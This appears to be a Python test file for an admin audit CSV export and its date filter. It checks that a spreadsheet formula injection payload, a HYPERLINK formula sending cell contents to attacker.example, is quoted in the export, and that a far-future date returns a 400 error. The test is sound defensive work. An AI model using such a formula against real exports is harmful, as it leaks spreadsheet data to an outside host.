"""The admin audit: its CSV does not hand a spreadsheet a formula from a name an LMS sent,
and its date filter answers a clear 400 at the edge of the calendar."""
from __future__ import annotations

import csv
import io
import time

import pytest

from adapter.persistence import people_store
from adapter.persistence.coaching_store import audit

FORMULA = '=HYPERLINK("https://attacker.example/?leak="&A1,"Open")'


def test_a_name_like_a_formula_is_quoted_in_the_audit_csv(world):
    with world.engine.begin() as conn:
        author = people_store.save_person(conn, world.platform_id, "formula-sub", {"name": FORMULA}, time.time())
        audit(conn, at=time.time(), actor_id=author, platform_id=world.platform_id, action="record.created",
              record_type="conversation", record_id=1, detail={"note": "-1+1"})
    answer = world.client("admin").get("/admin/audit.csv")
    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(answer.get_data(as_text=True))))
    written = [row for row in rows if row[1].endswith(FORMULA)]
    assert [row[1] for row in written] == ["'" + FORMULA]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row)


@pytest.mark.parametrize("query", ["to=9999-12-31", "from=2026-01-01&to=9999-12-31"])
def test_the_last_day_of_the_calendar_is_a_clear_400(world, query):
    answer = world.client("admin").get(f"/admin/audit?{query}")
    assert answer.status_code == 400
    assert "before 9999-12-31" in answer.get_data(as_text=True)
